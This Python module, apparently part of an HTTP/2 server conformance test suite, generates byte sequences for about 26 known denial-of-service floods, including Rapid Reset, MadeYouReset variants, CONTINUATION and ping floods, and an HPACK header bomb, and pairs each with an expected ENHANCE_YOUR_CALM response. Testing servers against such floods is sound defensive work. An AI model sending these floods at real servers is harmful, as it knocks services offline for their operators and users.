"""Floods that brought other servers of HTTP/2 down, for the tests and for tools/attack.py."""

from __future__ import annotations

import functools
from typing import Callable

from conformance.http2 import (ACK, END_STREAM, PADDED, PREFACE, SETTINGS_ACK, WINDOW_MAX, Code, Setting, Type, block, data,
                               frame, get, headers, literal, ping, post, priority, priority_update, request, reset,
                               settings, window_update)

CALM = Code.ENHANCE_YOUR_CALM

# A flood is a function of a connection and a number that counts up. It returns the octets of one round.
STREAMS_PER_ROUND = 20


def streams_of(round_: int) -> range:
    first = 2 * STREAMS_PER_ROUND * round_ + 1
    return range(first, first + 2 * STREAMS_PER_ROUND, 2)


def rapid_reset(round_: int) -> bytes:  # CVE-2023-44487
    return b"".join(get(stream, b"/big.bin") + reset(stream) for stream in streams_of(round_))


def made_you_reset_by_window(round_: int) -> bytes:  # CVE-2025-8671
    return b"".join(get(stream, b"/big.bin") + window_update(stream, WINDOW_MAX) for stream in streams_of(round_))


def made_you_reset_by_zero(round_: int) -> bytes:
    return b"".join(get(stream, b"/big.bin") + window_update(stream, 0) for stream in streams_of(round_))


def made_you_reset_by_data(round_: int) -> bytes:
    return b"".join(get(stream, b"/big.bin") + data(stream, b"x") for stream in streams_of(round_))


def made_you_reset_by_headers(round_: int) -> bytes:
    return b"".join(get(stream, b"/big.bin") + headers(stream, b"") for stream in streams_of(round_))


def made_you_reset_by_priority(round_: int) -> bytes:
    return b"".join(get(stream, b"/big.bin") + frame(Type.PRIORITY, 0, stream, b"1234") for stream in streams_of(round_))


def made_you_reset_by_dependency(round_: int) -> bytes:
    return b"".join(get(stream, b"/big.bin") + priority(stream, stream) for stream in streams_of(round_))


def made_you_reset_by_length(round_: int) -> bytes:
    return b"".join(post(stream, b"/hello.txt", (b"content-length", b"1")) + data(stream, b"xx", END_STREAM)
                    for stream in streams_of(round_))


def malformed(round_: int) -> bytes:
    return b"".join(headers(stream, b"") for stream in streams_of(round_))


def refused_streams(round_: int) -> bytes:
    return b"".join(post(stream) for stream in streams_of(round_))


def continuations(round_: int) -> bytes:  # CVE-2024-27316
    first = headers(1, request(), END_STREAM) if round_ == 0 else b""
    return first + frame(Type.CONTINUATION, 0, 1, b"") * 100


def large_continuations(round_: int) -> bytes:
    first = headers(1, request(), END_STREAM) if round_ == 0 else b""
    return first + frame(Type.CONTINUATION, 0, 1, block((b"x", b"y" * 16_000))) * 4


def pings(round_: int) -> bytes:  # CVE-2019-9512
    return ping() * 100


def ping_acks(round_: int) -> bytes:
    return ping(flags=ACK) * 100


def many_settings(round_: int) -> bytes:  # CVE-2019-9515
    return settings((Setting.INITIAL_WINDOW_SIZE, 1000 + round_ % 2)) * 100


def settings_acks(round_: int) -> bytes:
    return SETTINGS_ACK * 100


def table_sizes(round_: int) -> bytes:
    return settings((Setting.HEADER_TABLE_SIZE, round_ % 4096)) * 100


def priorities(round_: int) -> bytes:  # CVE-2019-9513
    return b"".join(priority(stream, stream + 2) for stream in streams_of(round_))


def priority_updates(round_: int) -> bytes:
    return b"".join(priority_update(stream, b"u=%d" % (round_ % 8)) for stream in range(1, 101, 2))


def empty_data(round_: int) -> bytes:  # CVE-2019-9518
    return (post(1) if round_ == 0 else b"") + data(1) * 100


def padding_only(round_: int) -> bytes:
    return (post(1) if round_ == 0 else b"") + data(1, b"\x63" + b"\0" * 99, PADDED) * 20


def unknown_frames(round_: int) -> bytes:
    return frame(0xee) * 100


def goaways(round_: int) -> bytes:
    return frame(Type.GOAWAY, 0, 0, b"\0" * 8) * 100


def windows_of_one(round_: int) -> bytes:  # CVE-2019-9511
    first = settings((Setting.INITIAL_WINDOW_SIZE, 0)) + get(1, b"/big.bin") if round_ == 0 else b""
    return first + window_update(1, 1) * 50


def windows_of_the_connection(round_: int) -> bytes:
    return window_update(0, 1) * 100


def header_bomb(round_: int) -> bytes:
    """A large entry of the table, and requests that consist of references to it, with closed windows."""
    first = b""
    streams = streams_of(round_)
    if round_ == 0:
        first = settings((Setting.INITIAL_WINDOW_SIZE, 0)) + headers(1, request() + literal(b"x", b"y" * 3900, 0x40))
        streams = streams[1:]
    return first + b"".join(headers(stream, request() + b"\xbe" * 4000) for stream in streams)


FLOODS = [(rapid_reset, CALM), (made_you_reset_by_window, CALM), (made_you_reset_by_zero, CALM), (made_you_reset_by_data, CALM),
          (made_you_reset_by_headers, CALM), (made_you_reset_by_priority, CALM), (made_you_reset_by_dependency, CALM),
          (made_you_reset_by_length, CALM), (malformed, CALM), (refused_streams, CALM), (continuations, CALM),
          (large_continuations, CALM), (header_bomb, CALM), (pings, CALM), (ping_acks, CALM), (many_settings, CALM), (settings_acks, CALM),
          (table_sizes, CALM), (priorities, CALM), (priority_updates, CALM), (empty_data, CALM), (padding_only, CALM),
          (unknown_frames, CALM), (goaways, CALM), (windows_of_one, CALM), (windows_of_the_connection, CALM)]


@functools.cache
def connection_of(flood: Callable[[int], bytes], octets_max: int = 1 << 20) -> bytes:
    """What a client sends on one connection if it does not wait for the server: more than any budget allows."""
    octets, rounds = bytearray(PREFACE + settings() + SETTINGS_ACK), 0
    while len(octets) < octets_max and rounds < 400:
        octets += flood(rounds)
        rounds += 1
    return bytes(octets)
